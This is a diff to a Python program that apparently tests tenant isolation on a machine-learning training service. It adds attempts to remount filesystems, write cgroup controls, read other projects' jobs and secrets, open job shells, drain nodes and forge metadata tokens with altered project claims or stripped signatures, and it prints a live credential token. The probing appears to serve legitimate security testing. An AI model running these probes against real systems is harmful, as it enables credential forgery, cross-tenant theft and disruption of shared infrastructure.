@@ -27,11 +27,12 @@ CANARY = re.compile(rb"canary-[0-9a-f]{32}")
 """What others keep to themselves has one of these in it."""
 HOME = os.environ["HOME"]
 ENDPOINT = os.environ["GCE_METADATA_HOST"]
+MAIN = os.getpid()
 NAMESPACED = TARGET["level"] != "session"
 libc = ctypes.CDLL(None, use_errno=True)
 
 NEWNS, NEWUSER = 0x20000, 0x10000000
-BIND, DETACH = 0x1000, 2
+BIND, REMOUNT, DETACH = 0x1000, 0x20, 2
 PTRACE_SEIZE = 0x4206
 
 
@@ -235,7 +236,9 @@ def machine_files():
 
 
 def set_user_bits():
-    done = subprocess.run(TARGET["set_user_programs"], capture_output=True, check=False)
+    if not TARGET["set_user_program"]:
+        return ""
+    done = subprocess.run(TARGET["set_user_program"], capture_output=True, check=False)
     return bool(CANARY.search(done.stdout)) and "read as another user"
 
 
@@ -254,7 +257,13 @@ def own_limits():
                     os.path.dirname(group) + "/cgroup.procs",
                     os.path.dirname(group) + "/tasks",
                 ]
-    return first(can_write, places)
+
+    def reopened():
+        for place in mounts():
+            libc.mount(None, place.encode(), None, REMOUNT | BIND, None)
+        return first(can_write, places)
+
+    return first(can_write, places) or in_child(reopened)
 
 
 # --- processes ---
@@ -266,7 +275,7 @@ def pids():
 
 def others():
     """Processes that are not ours: the guardian, the relay, and whatever else is to be seen."""
-    children = {os.getpid()}
+    children = {MAIN}
     for pid in sorted(pids()):
         with contextlib.suppress(OSError), open("/proc/%d/stat" % pid) as file:
             if int(file.read().rpartition(")")[2].split()[1]) in children:
@@ -277,7 +286,7 @@ def others():
 def see_processes():
     """Other jobs' processes and the service's."""
     if NAMESPACED:
-        own = {os.getpid(), 1}
+        own = {MAIN, 1}
         names = {}
         for pid in set(pids()) - own:
             with contextlib.suppress(OSError), open("/proc/%d/comm" % pid) as file:
@@ -340,7 +349,14 @@ def fork_bomb():
 # --- storage ---
 
 IDENTITY = json.dumps(
-    {"kind": "person", "email": "owner@example.com", "project": "", "job_uid": "", "attempt": 0, "replica": ""}
+    {
+        "kind": "person",
+        "email": "owner@example.com",
+        "project": "",
+        "job_uid": "",
+        "attempt": 0,
+        "replica": "",
+    }
 )
 
 
@@ -500,7 +516,9 @@ def others_address():
 
 
 def daemons():
-    return first(read, ["/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"])
+    return first(
+        read, ["/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"]
+    )
 
 
 def api(token):
@@ -518,9 +536,14 @@ def api(token):
         f"/trainshed/v1/jobs/{job}",
         f"/trainshed/v1/jobs/{job}/logs",
         f"/trainshed/v1/jobs/{job}/usage",
+        f"/trainshed/v1/jobs/{job}/timeline",
+        f"/trainshed/v1/jobs/{job}/watch",
         f"/trainshed/v1/jobs/{job}/autopsies",
-        f"/trainshed/v1/projects/{other}/secrets",
-        f"/trainshed/v1/projects/{own}/secrets",
+        f"/trainshed/v1/jobs/{job}/autopsyFiles",
+        f"/trainshed/v1/jobs?project={other}",
+        "/trainshed/v1/jobs",
+        f"/trainshed/v1/secrets?project={own}",
+        "/trainshed/v1/nodes",
     ]
     for path in reads:
         status, body = ask(TARGET["rest"], "GET", path, token=token)
@@ -535,7 +558,9 @@ def api(token):
         ("DELETE", mine, None),
         ("POST", f"/trainshed/v1/jobs/{job}:cancel", {}),
         ("POST", f"/trainshed/v1/jobs/{job}:shell", {}),
-        ("POST", f"/trainshed/v1/jobs/{job}/shell", {}),
+        ("POST", f"/trainshed/v1/jobs/{os.environ['CLOUD_ML_JOB_ID']}:shell", {}),
+        ("POST", f"/trainshed/v1/jobs/{job}:drill", {"kind": "kill"}),
+        ("POST", "/trainshed/v1/secrets", {"name": "x", "value": "y", "project": own}),
         ("POST", "/v2/entries:list", {"resourceNames": [f"projects/{other}"]}),
         ("POST", "/trainshed/v1/nodes/local:drain", {}),
     ]
@@ -551,7 +576,9 @@ def forged():
     token = metadata(ENDPOINT)
     head, claims, signature = token.split(".")
     fields = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
-    changed = [TARGET["other_project"] if field == TARGET["own_project"] else field for field in fields]
+    changed = [
+        TARGET["other_project"] if field == TARGET["own_project"] else field for field in fields
+    ]
     other = base64.urlsafe_b64encode(json.dumps(changed).encode()).decode().rstrip("=")
     made = [f"{head}.{other}.{signature}", f"{head}.{other}.", f"{head}.{other}", "tsj1..", "null"]
 
@@ -636,6 +663,7 @@ def main():
         why[name] = "%s %.2fs" % (why.get(name, ""), time.monotonic() - begin)
     print("WHY " + json.dumps(why))
     print("CONTROLS " + json.dumps(controls()))
+    # To be tried by gRPC, for which this program has no library.
     print("TOKEN " + metadata(ENDPOINT))
     print("VERDICTS " + json.dumps(found), flush=True)
     # Whoever has heard it writes an object: until then its token is good.
